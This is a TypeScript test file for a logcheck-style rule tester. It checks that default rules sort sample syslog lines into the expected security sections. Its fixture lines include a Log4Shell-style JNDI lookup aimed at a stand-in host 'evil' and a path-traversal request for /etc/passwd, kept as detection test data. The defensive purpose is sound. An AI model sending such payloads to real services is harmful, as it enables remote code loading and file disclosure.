// runTestRules (`integrityd --test-rules`) and our embedded default tree.

import { expect, test } from "bun:test";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { readRuleHome } from "../../src/rules/home.ts";
import { sectionHeader } from "../../src/rules/report.ts";
import { LineSplitter, runTestRules, splitLines } from "../../src/rules/testrules.ts";
import { REPO_ROOT } from "../../bench/support/logcheck-db.ts";
import { grepPipeline } from "../../bench/support/grep-pipeline.ts";
import { classifierOf, reportOf, titles } from "./helpers.ts";

const tmp = mkdtempSync(join(tmpdir(), "testrules-"));
process.on("exit", () => rmSync(tmp, { recursive: true, force: true }));
const ETC = join(REPO_ROOT, "etc", "logcheck");
const embedded = readRuleHome(ETC)!;

const H = "Nov 25 10:00:00 web1";
const LINES = [
  `${H} sshd[10]: Accepted publickey for alice from 192.0.2.9 port 50000 ssh2: ED25519 SHA256:abcDEF+/x=`,
  `${H} sshd[11]: Failed password for root from 198.51.100.7 port 4444 ssh2`,
  `${H} sshd[12]: Invalid user \${jndi:ldap://evil/a} from 198.51.100.7 port 4444`,
  `${H} CRON[13]: (root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)`,
  `${H} CRON[13]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`,
  `${H} sudo:    bob : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash`,
  `${H} systemd-logind[14]: New session 42 of user alice.`,
  `${H} systemd[1]: session-42.scope: Deactivated successfully.`,
  `${H} kernel: [ 1.0] NUL\x00byte and invalid UTF-8 \xc3\x28 \xff`,
  `${H} useradd[15]: new user: name=mallory, UID=1001`,
  `${H} nginx: GET /cgi-bin/../../../../etc/passwd`,
  `${H} rsyslogd: -- MARK --`,
  `${H} NetworkManager[16]: <info>  [1700000000.1234] device (wlan0): state change`,
];

function write(name: string, text: string): string {
  const p = join(tmp, name);
  writeFileSync(p, Buffer.from(text, "latin1"));
  return p;
}

async function run(input: string, extra: Partial<Parameters<typeof runTestRules>[0]> = {}) {
  let out = "";
  let err = "";
  const code = await runTestRules({
    input, rulesHome: null, embedded, level: "server", crackingIgnore: false, explain: false,
    out: (s) => { out += s; }, err: (s) => { err += s + "\n"; }, ...extra,
  });
  return { code, out, err };
}

test("our default rules are valid, sensible, and classify like logcheck's grep pipeline at every level", () => {
  const input = write("default.log", LINES.join("\n") + "\n");
  for (const level of ["paranoid", "server", "workstation"] as const) {
    const c = classifierOf(embedded, level);
    expect(c.problems).toEqual([]);
    expect(reportOf(c, LINES).entries()).toEqual(grepPipeline({ home: ETC, level, input }));
  }
  const c = classifierOf(embedded, "server");
  expect(titles(c.classify(LINES[0]))).toEqual([]);
  expect(titles(c.classify(LINES[1]))).toEqual(["Security Events for auth"]);
  expect(titles(c.classify(LINES[2]))).toEqual(["Security Alerts for attacks"]);
  expect(titles(c.classify(LINES[3]))).toEqual([]);
  expect(titles(c.classify(LINES[5]))).toEqual(["Security Events for sudo"]);
  expect(titles(c.classify(LINES[10]))).toEqual(["Security Alerts for attacks"]);
});

test("report, exit 1 when something is reported; CRLF, NUL, invalid UTF-8 and a last line without newline", async () => {
  const text = LINES.join("\r\n") + "\r\n" + `${H} last line without newline \xe9`;
  const input = write("crlf.log", text);
  const r = await run(input);
  expect(r.code).toBe(1);
  expect(r.err).toBe("");
  expect(r.out.startsWith(sectionHeader("Security Alerts for attacks"))).toBe(true);
  expect(r.out).toContain(`${H} kernel: [ 1.0] NUL\x00byte and invalid UTF-8 \xc3\x28 \xff\n`);
  expect(r.out).toContain(`${H} last line without newline \xe9\n\n`);
  expect(r.out).not.toContain("\r");
  expect(r.out).not.toContain("CRON[13]");
  // identical to logcheck's pipeline on the same bytes
  const want = grepPipeline({ home: ETC, level: "server", input });
  expect(r.out).toBe(want.map(([t, l]) => sectionHeader(t) + l.join("\n") + "\n\n").join(""));
});

test("exit 0 and no output when everything is ignored", async () => {
  const r = await run(write("quiet.log", `${LINES[0]}\n${LINES[3]}\n`));
  expect(r).toEqual({ code: 0, out: "", err: "" });
  const empty = await run(write("empty.log", ""));
  expect(empty).toEqual({ code: 0, out: "", err: "" });
});

test("unreadable input exits 74 with a message", async () => {
  const r = await run(join(tmp, "does-not-exist.log"));
  expect(r.code).toBe(74);
  expect(r.err).toContain("cannot read");
  expect(r.out).toBe("");
});

test("a missing rules home falls back to the embedded tree and says so; bad rules are FILE:LINE on err", async () => {
  const input = write("fallback.log", LINES.join("\n") + "\n");
  const missing = await run(input, { rulesHome: join(tmp, "no-such-home") });
  const plain = await run(input);
  expect(missing.err).toContain("does not exist; using the embedded default rules");
  expect(missing.out).toBe(plain.out);
  const home = join(tmp, "home-with-bad");
  mkdirSync(join(home, "violations.d"), { recursive: true });
  writeFileSync(join(home, "violations.d", "x"), "Failed password\n(broken\n");
  const bad = await run(input, { rulesHome: home });
  expect(bad.err).toBe(`${home}/violations.d/x:2: Unmatched ( or \\(\n`);
  expect(bad.out).toContain("Security Events for x\n");
  expect(bad.code).toBe(1);
});

test("--explain: every line says which rule decided; risky rules are listed with --list-risky", async () => {
  const input = write("explain.log", LINES.join("\n") + "\n");
  const listed = await run(input, { explain: true, listRisky: true });
  const r = await run(input, { explain: true });
  for (const x of [r, listed]) {
    for (let i = 1; i <= LINES.length; i++) expect(x.out).toContain(`# line ${i}: `);
    expect(x.out).toContain("ignored by embedded:ignore.d.server/ssh:2");
    expect(x.out).toContain("Security Events for auth: violation by embedded:violations.d/auth:2");
    expect(x.out).toContain("NUL\\x00byte");
    expect(x.out).toMatch(/^# rules: \d+ rules, \d+ on the linear-time matcher, \d+ with back-references; loaded in [\d.]+ s \(CPU [\d.]+ s\), RSS \d+ MiB$/m);
  }
  expect(listed.out).toMatch(/# rule embedded:cracking\.d\/attacks:\d+: linear: risky for backtracking/);
  expect(r.out).not.toMatch(/^# rule embedded:cracking\.d\/attacks:/m);
});

test("--explain without --list-risky names a risky rule only next to a line it decided", async () => {
  const line = "Jan  1 00:00:00 host systemd-logind[42]: New session 7 of user bob.";
  const r = await run(write("risky.log", line + "\n"), { explain: true });
  expect(r.out).toContain("ignored by embedded:ignore.d.server/systemd:2");
  expect(r.out).toMatch(/^#   rule embedded:ignore\.d\.server\/systemd:2: linear: risky for backtracking/m);
  expect(r.out.match(/^#   rule /gm)).toHaveLength(1);
  expect(r.out).not.toContain("cracking.d/attacks");
});

test("reads standard input with \"-\"", async () => {
  const script = `import { runTestRules } from ${JSON.stringify(join(REPO_ROOT, "src/rules/testrules.ts"))};
import { readRuleHome } from ${JSON.stringify(join(REPO_ROOT, "src/rules/home.ts"))};
const code = await runTestRules({ input: "-", rulesHome: null, embedded: readRuleHome(${JSON.stringify(ETC)}), level: "server", crackingIgnore: false, explain: false, out: (s) => process.stdout.write(s), err: (s) => process.stderr.write(s + "\\n") });
process.exit(code);`;
  const f = write("child.ts", script);
  const p = Bun.spawn([process.execPath, f], { stdin: "pipe", stdout: "pipe", stderr: "pipe" });
  p.stdin.write(Buffer.from(`${LINES[1]}\n${LINES[3]}\n`, "latin1"));
  p.stdin.end();
  const out = await new Response(p.stdout).text();
  expect(await p.exited).toBe(1);
  expect(out).toBe(sectionHeader("Security Events for auth") + LINES[1] + "\n\n");
});

test("input is cut into lines chunk by chunk: any chunk boundaries give the lines of the whole", () => {
  const text = Buffer.from("a\r\n\nb\xff\x00c\nlast without newline", "latin1");
  const whole = splitLines(text);
  expect(whole).toEqual(["a\r", "", "b\xff\x00c", "last without newline"]);
  expect(splitLines(Buffer.from("x\n", "latin1"))).toEqual(["x"]);
  expect(splitLines(Buffer.alloc(0))).toEqual([]);
  for (let size = 1; size <= text.length; size++) {
    const s = new LineSplitter();
    const got: string[] = [];
    for (let i = 0; i < text.length; i += size) got.push(...s.push(text.subarray(i, i + size)));
    got.push(...s.end());
    expect(got).toEqual(whole);
  }
});

test("a large input streams through: same report as the lines given at once", async () => {
  const many: string[] = [];
  for (let i = 0; i < 20_000; i++) many.push(LINES[i % LINES.length]);
  const r = await run(write("many.log", many.join("\n") + "\n"));
  const c = classifierOf(embedded, "server");
  expect(r.out).toBe(reportOf(c, many).format());
});
